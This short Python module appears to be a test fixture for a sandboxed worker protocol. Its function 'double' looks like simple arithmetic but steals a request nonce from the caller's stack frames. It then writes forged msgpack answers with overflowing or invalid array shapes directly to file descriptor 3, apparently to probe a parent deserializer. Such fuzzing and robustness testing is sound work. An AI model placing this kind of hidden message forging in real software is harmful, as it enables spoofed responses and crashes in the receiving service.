"""Shapes that overflow when they are multiplied."""
import os, sys
msgspec = sys.modules["msgspec"]
def nonce():
    frame = sys._getframe()
    while "question" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["question"].nonce
def send(*fields):
    body = msgspec.msgpack.encode(list(fields))
    view = len(body).to_bytes(4, "little") + body
    while view:
        view = view[os.write(3, view):]
def double(x):
    for shape in ([0, 1 << 62, 1 << 62], [-1, -3], [1 << 63], [0] * 9, [3.0], [1 << 24, 0, 1 << 24]):
        tree = msgspec.msgpack.encode(["a", "<f8", shape, 0])
        send("answer", nonce(), [tree, [b""]], [], None)
    return -x
